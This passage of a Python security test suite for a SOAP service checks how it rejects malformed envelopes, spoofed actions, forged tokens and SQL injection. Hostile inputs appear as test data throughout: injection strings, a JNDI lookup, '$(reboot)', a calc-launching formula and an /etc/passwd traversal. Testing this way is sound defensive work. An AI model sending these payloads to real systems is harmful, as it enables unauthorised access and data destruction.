    shaped("R3.3 the call stands in the Header", EMPTY_BODY,
           envelope("", f"<soapenv:Header>{INNER}</soapenv:Header>")),
    shaped("R3.2 mustUnderstand on the second entry", MUST, header('<a/><b soapenv:mustUnderstand="1"/>')),
    shaped("R3.2 mustUnderstand for an actor", MUST,
           header(f'<a soapenv:actor="{OTHER}" soapenv:mustUnderstand="1"/>')),
    shaped("R3.2 mustUnderstand by another prefix", MUST,
           header(f'<a xmlns:q="{SOAP}" q:mustUnderstand="1"/>')),
    shaped("R3.2 mustUnderstand on WS-Security", MUST, header(
        '<w:Security xmlns:w="http://schemas.xmlsoap.org/ws/2002/12/secext" soapenv:mustUnderstand="1">'
        f'<w:UsernameToken><w:Password>{SECRET}</w:Password></w:UsernameToken></w:Security>')),
    shaped("R3.2 mustUnderstand in a Header behind the Body", MUST,
           changed("</soapenv:Body>", f"</soapenv:Body>{MANDATORY}")),
    shaped("R3.2 mustUnderstand in a second Header", MUST, nothing(header=f"<soapenv:Header/>{MANDATORY}")),
    shaped("R3.2 mustUnderstand of another name space says nothing", FINE,
           header(f'<a xmlns:q="{OTHER}" q:mustUnderstand="1"/>')),
    shaped("R3.2 mustUnderstand 0", FINE, header('<a soapenv:mustUnderstand="0"/>')),
    shaped("R2.7 the method in another name space", FINE, changed("urn:xtk:session", OTHER)),
    shaped("R2.7 the method in none", FINE, changed("urn:", "")),
    shaped("R3.2 the prefix bound anew to the same", FINE,
           changed("<soapenv:Body>", f'<soapenv:Body xmlns:soapenv="{SOAP}">')),
    shaped("2.3 a prefix bound to nothing", FINE, nothing('xmlns:a=""')),
    shaped("2.3 the prefix xml bound anew", FINE, nothing('xmlns:xml="urn:a"')),
    shaped("R3.6 a parameter too many, the first a document", client("SOP-330003"), call("IngestExt", (
        f"<urn:a>{record(NOTHING)}</urn:a><urn:b>{record(NOTHING)}</urn:b>"))),
    shaped("R3.6 10,000 parameters", client("SOP-330003"), call("IngestExt", "<urn:a/>" * 10000)),
    shaped("R3.6 no parameter", client("CIN-100008"), call("IngestExt")),
    shaped("R3.6 nothing at all in the method element", NO_SESSION, envelope("<urn:IngestExt/>")),
    shaped("R3.9 two documents with text between", DOCUMENT, ingest(GOOD + SECRET + GOOD, "IngestExt")),
    shaped("R3.9 text in front of the document", DOCUMENT, ingest(SECRET + record(NOTHING), "IngestExt")),
    shaped("R3.7 a boolean that is none", client("CIN-100008"), call("GetEntityIfMoreRecent", (
        f"<urn:a>xtk:schema|a</urn:a><urn:b/><urn:c>{SECRET}</urn:c>")), "xtk:persist#GetEntityIfMoreRecent"),
    shaped("R3.7 a boolean with markup", client("CIN-100008"), call("Subscribe", (
        f"<urn:a>NEWS</urn:a><urn:b>{record()}</urn:b><urn:c>1e9</urn:c>")), "nms:subscription#Subscribe"),
]


# --- the action (R2.4 to R2.7), and what it could get around ------------------------------------------------
def action(expect, text, body=None, name=None, **kw):
    return Case(f"R2.6 {name or 'action ' + repr(text)[:60]}", expect, nothing() if body is None else body,
                text, **kw)


def query(expect, text, body=None):
    return Case(f"R2.4 query {text[:60]}", expect, nothing() if body is None else body, None,
                path=f"{ROUTER}?{text}")


SESSIONLESS = envelope("<urn:IngestExt><urn:sessiontoken/><urn:d>" + record(NOTHING)
                       + "</urn:d></urn:IngestExt>")
ACTIONS = [
    *(action(ACTION, text) for text in (
        "#IngestExt", "xtk:session#", "xtk:session", "xtk#IngestExt", "xtk:#IngestExt", ":session#IngestExt",
        "xtk:session##IngestExt", "xtk:session#IngestExt#IngestExt", "xtk:session#Ingest Ext",
        "1tk:session#IngestExt", "_tk:session#IngestExt", "xtk:1#IngestExt", "xtk/session#IngestExt",
        "xtk:session|#IngestExt", "|xtk:session#IngestExt", "xtk:persist|xtk:session|xtk:session#IngestExt",
        "xtk:persist||xtk:session#IngestExt", "xtk:session#_IngestExt", "xtk:session#Ingest-Ext",
        "../..:session#IngestExt", "xtk:session#IngestExt' OR '1'='1",
        "xtk:session'; DROP TABLE a; --#IngestExt", '"xtk:session#IngestExt', "'xtk:session#IngestExt'",
        "xtk:s\u00e5ssion#IngestExt", "xtk:session#IngestExt?", "urn:xtk:session#IngestExt",
        "http://schemas.xmlsoap.org/#IngestExt", "*", "%", "xtk:session%23IngestExt")),
    action(ACTION, "x" * 7000, name="an action of 7,000 characters"),
    action(ACTION, "xtk:nowhere#IngestExt"),
    action(ACTION, "campaign:operator#IngestExt"),
    action(ACTION, "xtk:session|xtk:persist#IngestExt", name="the service's parts in the wrong order"),
    action(client("SOP-330006"), "nms:subscription#IngestExt"),
    action(client("SOP-330006"), "xtk:session#ingestext", changed("urn:IngestExt", "urn:ingestext")),
    action(client("SOP-330006"), "xtk:session#" + LONG[:900], changed("IngestExt", LONG[:900]),
           name="a method of 900 letters"),
    action(client("SOP-330006"), "xtk:session#WriteCollection", changed("IngestExt", "WriteCollection")),
    Case("15 ExecuteQuery", ACTION, call("ExecuteQuery", "<urn:a/>"), "xtk:queryDef#ExecuteQuery"),
    Case("R2.7 an anonymous action over a method that is not", DIFFERS, SESSIONLESS,
         "xtk:session#GetServerTime"),
    Case("R2.7 Logon over a method that is not", DIFFERS, SESSIONLESS, "xtk:session#Logon"),
    Case("R2.7 a method over one that is anonymous", DIFFERS, call("GetServerTime", token=""), EXT),
    Case("4.6 an unknown service without a session", NO_SESSION, SESSIONLESS, "xtk:nowhere#IngestExt"),
    Case("4.6 an unknown method without a session", NO_SESSION, SESSIONLESS.replace("IngestExt", "Nonsense"),
         "xtk:session#Nonsense"),
    Case("4.6 too many parameters without a session", NO_SESSION, call("IngestExt", "<urn:a/>" * 9, ""), EXT),
    Case("4.6 no parameters without a session", NO_SESSION, call("IngestExt", "", ""), EXT),
    Case("R2.4 no name space to compose an action of", ACTION, changed("urn:IngestExt", "IngestExt").replace(
        "xmlns:urn", 'xmlns="" xmlns:urn'), None),
    Case("R2.4 a service that is not listed, composed", ACTION,
         changed("urn:xtk:session", "urn:nms:recipient"), None),
    Case("R2.4 a site, composed", ACTION, changed("urn:xtk:session", "@SITE@/"), None),
    query(DIFFERS, "soapAction=xtk%3Asession%23GetServerTime", SESSIONLESS),
    query(ACTION, "soapAction=xtk%253Asession%2523IngestExt"),
    query(ACTION, "soapAction=xtk:session%23IngestExt%00"),
    query(ACTION, "soapAction=xtk:session%23IngestExt%0d%0aX-Session-Token:%20a"),
    query(ACTION, "soapAction=xtk:session%23IngestExt%27%20OR%201=1"),
    query(ACTION, "soapAction=%ff%fe"),
    query(ACTION, "soapAction=%"),
    query(ACTION, "soapAction=" + "x" * 6000),
    query(FINE, "SOAPACTION=xtk%3Asession%23Logon&x=%00&&&=&soapactio"),
    *(Case(f"R2.1 Content-Type {t}", plain(415), nothing(), EXT, {"Content-Type": t}) for t in (
        "text/plain", "text/html", "text/xml2", "xtext/xml", "text", "text/xml, application/json",
        "application/soap+json", "application/x-www-form-urlencoded", "application/fastinfoset",
        "application/xop+xml", "application/xml+dtd", 'multipart/related; type="text/xml"; boundary=a',
        "text / xml", "text/xml\u00e5", ";charset=utf-8", "'text/xml'")),
    *(Case(f"2.3 Content-Encoding {e}", plain(415), nothing(), EXT, {"Content-Encoding": e}) for e in (
        "deflate", "br", "compress", "gzip, identity", "identity, gzip", "x", "*")),
    Case("2.3 Content-Encoding identity", FINE, nothing(), EXT, {"Content-Encoding": "identity"}),
]


# --- SQL wherever a text goes, and is not stored ------------------------------------------------------------
def sql(name, expect, body, action=INGEST, **kw):
    return Case(f"SQL {name}", expect, body, action, **kw)


def parameters(*texts):
    return "".join(f"<urn:p>{html.escape(t)}</urn:p>" for t in texts)


def logon(login, password):
    return call("Logon", parameters(login, password), "")


def entity(pk, md5="", must_exist="true"):
    return call("GetEntityIfMoreRecent", parameters(pk, md5, must_exist))


def subscribe(services, recipient=f'_key="@email" email="{SECRET}"', method="Subscribe"):
    return call(method, f"{parameters(services)}<urn:r><recipient {recipient}/></urn:r>")


def folder(link):
    return ingest(f'<r xtkschema="nms:recipientStg" email="{SECRET}"><folder {link}/></r>')


SUBSCRIBE, REPLICATE = "nms:subscription#Subscribe", "nms:replicationStrategy#StartReplicateStagingData"
LOGON, ENTITY = "xtk:session#Logon", "xtk:persist#GetEntityIfMoreRecent"
TRUE = "' OR '1'='1"
INJECTIONS = [
    *(sql(f"in the login: {login[:40]}", NO_LOGIN, logon(login, SECRET), LOGON) for login in (
        TRUE, "feed1' -- ", "feed1'#", "feed1\\", "' UNION SELECT 1,'feed1','','','','','',0 -- ",
        "feed1\u00a0", "feed1 ", " feed1", "FEED1", "feed1%00", "feed1;", "\uff07 OR 1=1", "feed\u0131",
        "x" * 70000)),
    *(sql(f"in the password: {password[:40]}", NO_LOGIN, logon("feed1", password), LOGON) for password in (
        TRUE, "correct horse 9 ", " correct horse 9", "CORRECT HORSE 9", "correct horse 9\n",
        "$argon2id$v=19$m=65536,t=2,p=1$", "x" * 70000)),
    *(sql(f"in the schema: {schema[:40]}", failed("XFR-180000"),
          ingest(record(f'testcol1="{SECRET}"', schema=schema))) for schema in (
              "dem:sampleTableStg" + TRUE, "dem:sampleTableStg; --", "dem:sampleTableStg`",
              "dem:sampleTableStg_log", "dem.sampleTableStg", "dem:sampleTableStg ", " dem:sampleTableStg",
              "DEM:SAMPLETABLESTG", "dem:sampleTableSt%", "xtk:session", "../dem:sampleTableStg",
              "dem:sampleTable\u0405tg", "n" * 5000)),
    *(sql(f"in an attribute's name: {name}", UNKNOWN, ingest(record(f'{name}="{SECRET}"'))) for name in (
        "testcol1--", "testcol1\uff07", "TESTCOL1", "test.col1", "testcol1.", "location_city",
        "information_schema.tables", "id\u0301", "select", "null", "location-city")),
    *(sql(f"in an attribute's name: {name}", MALFORMED, ingest(record(f'{name}="{SECRET}"'))) for name in (
        "testcol1'", "testcol1;", "testcol1`", "testcol1/**/", "(testcol1)", "@testcol1", "testcol1\\")),
    *(sql(f"in an element's name: {name}", UNKNOWN, ingest(record("", f"<{name}>{SECRET}</{name}>")))
      for name in ("drop", "comment--", "Comment", "dem_sampleTableStg_log", "comment.comment")),
    *(sql(f"for {field}: {wrong}", CAST, ingest(record(f'{field}="{wrong} {SECRET}"'))) for field, wrong in (
        ("amount", "1; DROP TABLE a"), ("amount", "1e1' -- "), ("quantity", "1 OR 1=1"), ("quantity", "0x27"),
        ("rating", "1)"), ("views", "SLEEP(5)"), ("colour", "1,1"), ("active", "true'"),
        ("day", "2026-01-01' OR '1'='1"), ("day", "0000-00-00 OR 1"), ("moment", "2026-01-01 00:00:00'; --"),
        ("moment", "UTC_TIMESTAMP()"))),
    *(sql(f"in _key: {key}", KEY, ingest(record(f'_key="{html.escape(key)}" code="{SECRET}" testcol1="a"')))
      for key in (
        "@code" + TRUE, "@code;--", "`code`", "@code,`", "@code,", ",", " ", "", "@_seq", "_seq",
        "[@_operator]", "@code)", "@code/..", "/@code", "//@code", "@*", "*", "node()", "@code[1]",
        "[[@code]]", "[@code", "@@code", "location/@city/..", "[location/@city]", "location/city",
        "@xtkschema", "@CODE", "@code|@id", "@code OR 1", "." * 5000)),
    *(sql(f"in _operation: {operation!r}", failed("CIN-100210"),
          ingest(record(f'_operation="{operation}" _key="@code" code="{SECRET}"'), "IngestExt"), EXT)
      for operation in ("insert; DROP TABLE a", "INSERT", " insert", "insert ", "truncate", "", "delete'--",
                        "insertorupdate", "none\u200b")),
    *(sql(f"in a link: {link}", expect, folder(f'{link} _operation="none"')) for link, expect in (
        (f'name="{SECRET}{TRUE}"', failed("CIN-100305")), (f'_key="@name{TRUE}" name="{SECRET}"', KEY),
        (f'_key="@name" name="%" label="{SECRET}"', failed("CIN-100305")), (f'name--="{SECRET}"', UNKNOWN))),
    sql("in a link's operation", failed("CIN-100306"), folder('name="a" _operation="none\' OR 1=1"')),
    *(sql(f"in a service's name: {name[:40]}", failed("CIN-100401"), subscribe(name), SUBSCRIBE)
      for name in (TRUE, "%", "_", "\\", "NEWS'--", "a'b,c", "n" * 5000)),
    sql("in a list of empty services", failed("CIN-100402"), subscribe(" ,,\t, "), SUBSCRIBE),
    sql("in 1,001 services' names", failed("CIN-100206"), subscribe("a," * 1001, method="Unsubscribe"),
        "nms:subscription#Unsubscribe"),
    sql("in a recipient's schema", failed("XFR-180000"),
        subscribe("NEWS", f'xtkschema="nms:recipient{TRUE}" email="{SECRET}"'), SUBSCRIBE),
    *(sql(f"in an entity: {pk[:40]}", failed("XFR-180000"), entity(pk), ENTITY) for pk in (
        "xtk:schema|dem:sampleTable" + TRUE, "xtk:schema|../../../etc/hosts", "xtk:schema", "|", "",
        "xtk:srcSchema|dem:sampleTableStg", "xtk:schema|dem:sampleTable|a", "xtk:option|XtkDatabaseId",
        "xtk:operator|feed1", "n" * 5000)),
    sql("in an entity that need not exist", FINE, entity("xtk:schema|" + TRUE, must_exist="false"), ENTITY,
        has="literalxml'></pdomDoc>"),
    sql("in an entity's md5", FINE, entity("xtk:schema|xtk:session", TRUE), ENTITY, has="<schema "),
    *(sql(f"in an option's name: {name}", FINE, call("GetOption", parameters(name)), "xtk:session#GetOption",
          has="<pbtType xsi:type='xsd:byte'>0</pbtType>")
      for name in (TRUE, "XtkDatabaseId' -- ", "secret", "../db.cnf", "XTKDATABASEID")),
    *(sql(f"in a run's schema: {name[:40]}", failed("XFR-180000"),
          call("StartReplicateStagingData", parameters(name)), REPLICATE)
      for name in (TRUE, "dem:sampleTable; --", "*", " ", "n" * 5000)),
    sql("in a WSDL's schema", plain(404), "", None,
        path="/nl/jsp/schemawsdl.jsp?schema=xtk:session%27%20OR%201=1"),
    sql("in the address of a proxy", NOT_HERE, nothing(), EXT, headers={"X-Forwarded-For": TRUE}),
    sql("in the second address of proxies", NOT_HERE, nothing(), EXT,
        headers={"X-Forwarded-For": "127.0.0.1, 127.0.0.1' -- "}),
    sql("in an address of 7,000 characters", NOT_HERE, nothing(), EXT,
        headers={"X-Forwarded-For": "1" * 7000}),
    sql("in an address with a scope", NOT_HERE, nothing(), EXT, headers={"X-Forwarded-For": "fe80::1%eth0"}),
    sql("in headers that do nothing", FINE, nothing(), EXT, headers={name: TRUE for name in (
        "ACC-SDK-Auth", "ACC-SDK-Client-App", "X-Query-Source", "x-request-id", "User-Agent", "Referer",
        "Accept-Language", "X-Real-IP")}),
    # What speaks of TLS in a header is not what the web server says.
    Case("4.5 a caller who calls himself encrypted", NOT_HERE, nothing(), EXT, {
        "X-Forwarded-For": "192.0.2.1", "HTTPS": "on", "X-Forwarded-Proto": "https",
        "Forwarded": "proto=https", "Front-End-Https": "on", "Request-Scheme": "https",
        "X-Forwarded-Ssl": "on"}),
]


# --- tokens (4.2 to 4.6) ------------------------------------------------------------------------------------
FORGED = {  # name of keys(): what it is
    "UNKNOWN": "nobody's", "CUT": "cut by one byte", "LONGER": "one byte longer",
    "FIRST_CUT": "without its first byte",
    "SWAPPED": "with the case of its letters changed", "LAST": "with another last digit",
    "WITH_SQL": "with SQL in it",
    "PADDED": "with a blank behind it", "ENDED": "ended by Logoff", "EXPIRED": "expired",
    "WILD": "a pattern of SQL",
    "SECURITY": "a security token", "BEARER": "a Bearer token", "HASH": "the hash of a token",
    "LOGIN": "a login alone",
    "NOT_ASCII": "of 39 bytes that are not ASCII", "PAIR": "login and password",
}


def ways(key):
    """KEY as the session token, in the four ways of 4.2."""
    token = f"@{key}@"
    yield "as parameter", ingest(GOOD, token=token), {}
    yield "as cookie", ingest(GOOD, token=""), {
        "Cookie": f"a=b; __sessiontoken={token}", "X-Security-Token": "@SECURITY@"}
    yield "as header", ingest(GOOD, token=""), {"X-Session-Token": token}
    yield "as SOAP header", ingest(GOOD, token="", header=(
        f"<soapenv:Header><Cookie>__sessiontoken={token}</Cookie>"
        "<X-Security-Token>@SECURITY@</X-Security-Token></soapenv:Header>")), {}


def forged_tokens():
    for key, what in FORGED.items():
        for way, body, headers in ways(key):
            if key == "PADDED" and way != "as parameter":
                continue  # blanks behind a header's value are none of it
            yield Case(f"4.6 token {what} {way}", NO_SESSION, body, INGEST, headers)


def security(name, token, expect=NO_SESSION, **headers):
    """TOKEN beside a session token that is right, in a header."""
    return Case(f"R4.4 security token {name}", expect, nothing(), EXT, {"X-Security-Token": token, **headers})


def bearer(name, token, scheme="Bearer", expect=NO_SESSION, body=None):
    return Case(f"R4.6 Bearer token {name}", expect, body or nothing(token=""), EXT,
                {"Authorization": f"{scheme} {token}"})


def bearer_logon(name, token):
    return Case(f"4.3 BearerTokenLogon {name}", NO_SESSION,
                call("BearerTokenLogon", f"<urn:a>{token}</urn:a>", ""), "xtk:session#BearerTokenLogon")


SCRIPTS = {"X-Forwarded-For": "198.51.100.1"}  # allow_user_password
ALWAYS = {"X-Forwarded-For": "198.51.100.2"}  # security_token_always
COOKIE = {"Cookie": "__sessiontoken=@TOKEN@"}
TOKENS = [
    *forged_tokens(),
    *(Case(f"4.6 token {name}", NO_SESSION, ingest(GOOD, token=token)) for name, token in (
        ("of one line feed", "\n"), ("with a line feed in front", "\n@TOKEN@"),
        ("with a line feed behind", "@TOKEN@&#10;"), ("in its element twice", "@TOKEN@@TOKEN@"),
        ("within another element", "<a>@TOKEN@</a>"), ("that is 'null'", "null"), ("that is '0'", "0"),
        ("that is three underscores", "___"), ("with format directives", "___" + "%s%n" * 9),
        ("of 1 MB", "___" + "0" * 1000000), ("of 1 MB without underscores", "0" * 1000000),
        ("with XSV-350008", "___XSV-350008"))),
    Case("4.6 token of 1 MB in the SOAP header", NO_SESSION, ingest(GOOD, token="", header=(
        f'<soapenv:Header><Cookie>__sessiontoken=___{"0" * 1000000}</Cookie></soapenv:Header>'))),
    Case("4.6 token in the query", NO_SESSION, ingest(GOOD, token=""),
         path=f"{ROUTER}?sessiontoken=@TOKEN@&__sessiontoken=@TOKEN@"),
    Case("4.2 a cookie of another name", NO_SESSION, ingest(GOOD, token=""), INGEST,
         {"Cookie": "sessiontoken=@TOKEN@; x__sessiontoken=@TOKEN@; __SESSIONTOKEN=@TOKEN@",
          "X-Security-Token": "@SECURITY@"}),
    Case("4.2 the first way counts, though the second is right", NO_SESSION, ingest(GOOD, token="@UNKNOWN@"),
         INGEST, {**COOKIE, "X-Security-Token": "@SECURITY@"}),
    Case("4.2 the cookie counts before the header", NO_SESSION, ingest(GOOD, token=""), INGEST,
         {"Cookie": "__sessiontoken=@UNKNOWN@", "X-Session-Token": "@TOKEN@",
          "X-Security-Token": "@SECURITY@"}),
    Case("R4.4 a cookie without a security token", NO_SESSION, nothing(token=""), EXT, COOKIE),
    Case("R4.4 a SOAP cookie without a security token", NO_SESSION, nothing(token="", header=(
        "<soapenv:Header><Cookie>__sessiontoken=@TOKEN@</Cookie></soapenv:Header>")), EXT),
    Case("R4.4 a cookie with the right security token in the query", NO_SESSION, nothing(token=""), EXT,
         COOKIE, f"{ROUTER}?X-Security-Token=@SECURITY@"),
    Case("R4.4 a cookie with another operator's security token", NO_SESSION, nothing(token=""), EXT,
         {**COOKIE, "X-Security-Token": "@OTHER_SECURITY@"}),
    Case("R4.4 a cookie whose security token has expired", NO_SESSION, nothing(token=""), EXT,
         {"Cookie": "__sessiontoken=@HALF_EXPIRED@", "X-Security-Token": "@HALF_EXPIRED_SECURITY@"}),
    Case("R4.4 an expired security token, sent where none is needed", NO_SESSION,
         nothing(token="@HALF_EXPIRED@"), EXT, {"X-Security-Token": "@HALF_EXPIRED_SECURITY@"}),
    Case("R4.4 an expired security token that is not sent", FINE, nothing(token="@HALF_EXPIRED@"), EXT),
    security("of another operator", "@OTHER_SECURITY@"),
    security("of another server", "@FOREIGN_SECURITY@"),
    security("of an ended session", "@ENDED_SECURITY@"),
    security("cut by one byte", "@SECURITY_CUT@"),
    security("one byte longer", "@SECURITY@="),
    security("without its padding", "@SECURITY_BARE@"),
    security("without its @", "@SECURITY_FIRST_CUT@"),
    security("with the case of its letters changed", "@SECURITY_SWAPPED@"),
    security("in hexadecimal", "@SECURITY_HEX@"),
    security("that is the session token", "@TOKEN@"),
    security("with SQL", "@" + TRUE),
    security("of 7,000 characters", "@" + "A" * 7000),
    security("not ASCII", "@\u00e5" * 44),
    Case("R4.4 a wrong security token in the SOAP header", NO_SESSION, nothing(
        header="<soapenv:Header><X-Security-Token>@OTHER_SECURITY@</X-Security-Token></soapenv:Header>"),
        EXT),
    Case("R4.4 a wrong security token in HTTP, the right one in SOAP", NO_SESSION, nothing(
        header="<soapenv:Header><X-Security-Token>@SECURITY@</X-Security-Token></soapenv:Header>"), EXT,
        {"X-Security-Token": "@OTHER_SECURITY@"}),
    Case("R4.4 none where a zone always wants one", NO_SESSION, nothing(), EXT, ALWAYS),
    security("wrong where a zone always wants one", "@OTHER_SECURITY@", **ALWAYS),
    security("right where a zone always wants one", "@SECURITY@", FINE, **ALWAYS),
    bearer("unknown", "tok_" + "A" * 43),
    bearer("cut by one byte", "@BEARER_CUT@"),
    bearer("one byte longer", "@BEARER@A"),
    bearer("with the case of its letters changed", "@BEARER_SWAPPED@"),
    bearer("of another scheme", "@BEARER@", "Basic"),
    bearer("without a scheme", "", "@BEARER@"),
    bearer("with login and password", "ZmVlZDE6Y29ycmVjdCBob3JzZSA5", "Basic"),
    bearer("that is a session token", "@TOKEN@"),
    bearer("that is empty", "", expect=NO_SESSION),
    bearer("with SQL", TRUE),
    bearer("of 7,000 characters", "A" * 7000),
    bearer("not ASCII", "tok_\u00e5\u00e4\u00f6"),
    bearer("twice", "@BEARER@, Bearer @BEARER@"),
    bearer("in quotes", '"@BEARER@"'),
    bearer("wrong beside a valid pair", "tok_" + "A" * 43, body=nothing()),
    bearer("whose operator has no right", "@READER_BEARER@", expect=failed("CIN-100103"), body=nothing()),
    bearer_logon("unknown", "tok_" + "A" * 43),
    bearer_logon("empty", ""),
    bearer_logon("with SQL", html.escape(TRUE)),
    bearer_logon("with a session token", "@TOKEN@"),
    bearer_logon("with a security token", "@SECURITY@"),
    bearer_logon("cut by one byte", "@BEARER_CUT@"),
    bearer_logon("with a line feed behind", "@BEARER@&#10;"),
    bearer_logon("of 1 MB", "A" * 1000000),
    *(Case(f"R4.5 pair {name}", expect, nothing(token=token), EXT, SCRIPTS) for name, token, expect in (
        ("with an empty password", "feed1/", NO_LOGIN), ("with an empty login", "/correct horse 9", NO_LOGIN),
        ("of nothing but a slash", "/", NO_LOGIN),
        ("with a blank behind the password", "feed1/correct horse 9 ", NO_LOGIN),
        ("in capitals", "FEED1/correct horse 9", NO_LOGIN),
        ("with SQL in the login", "feed1' -- /x", NO_LOGIN),
        ("with SQL in the password", f"feed1/{TRUE}", NO_LOGIN),
        ("with a password of 1 MB", "feed1/" + "x" * 1000000, NO_LOGIN),
        ("cut at the last slash", "feed1/correct horse 9/x", NO_LOGIN),
        ("with underscores in front", "___feed1/correct horse 9", NO_SESSION),
        ("with a colon", "feed1:correct horse 9", NO_SESSION))),
    Case("R4.5 pair with a security token", NO_SESSION, nothing(token="@PAIR@"), EXT,
         {**SCRIPTS, "X-Security-Token": "@SECURITY@"}),
    *(Case(f"4.6 ping {name}", NO_SESSION, None, None, headers, "/nl/jsp/ping.jsp") for name, headers in (
        ("without a session", {}), ("with a forged cookie", {"Cookie": "__sessiontoken=@UNKNOWN@"}),
        ("with SQL in the cookie", {"Cookie": f"__sessiontoken=___{TRUE}"}),
        ("with an ended session", {"X-Session-Token": "@ENDED@"}),
        ("with a wrong Bearer token", {"Authorization": "Bearer tok_x"}))),
]

MESSAGES = DTDS + HINTS + LIMITS + CHARSETS + CHARACTERS + TAGS + ENVELOPES + ACTIONS + INJECTIONS + TOKENS

# --- legal text, to be stored as it is ----------------------------------------------------------------------
HARMLESS = [
    TRUE, "'; DROP TABLE dem_sampleTableStg_log; -- ", '" OR ""="', "\\'; DROP TABLE x; #", "\\", "\\\\'",
    "'", "''", "\"", "`", "a\\", "%27%20OR%201=1", "/*!50000 SELECT*/", "1; SELECT SLEEP(5)",
    "' UNION SELECT password_hash FROM campaign_operator -- ", "`id`", "${jndi:ldap://127.0.0.1/a}",
    "{{7*7}}", "$(reboot)", "%s%n%x", "\u2019 OR 1=1", "\uff07 OR 1=1", "\u02bc--", "NULL", "\\N", "\\n",
    "DEFAULT", "0x27", "CHAR(39)", "'||'a", "a\tb\nc\r\nd", "<script>alert(1)</script>", "]]>", "<!-- ",
    "<!DOCTYPE e>", "&lt;", "&#0;", "../../etc/passwd", "=cmd|' /C calc'!A0", "\ufeffx", "a\u202eb",
    "\u0085\u2028", "\x7f\x80\x9f", "\U0001f600'\U0001f600", "@@version", "?", "??", ":1", "XSV-350008",
    "___0b6f1c02-9d55-4a7e-8c3f-5f2d7a90e114", "@TOKEN", "  ", "a b ", "true", "-0", "1e309",
]
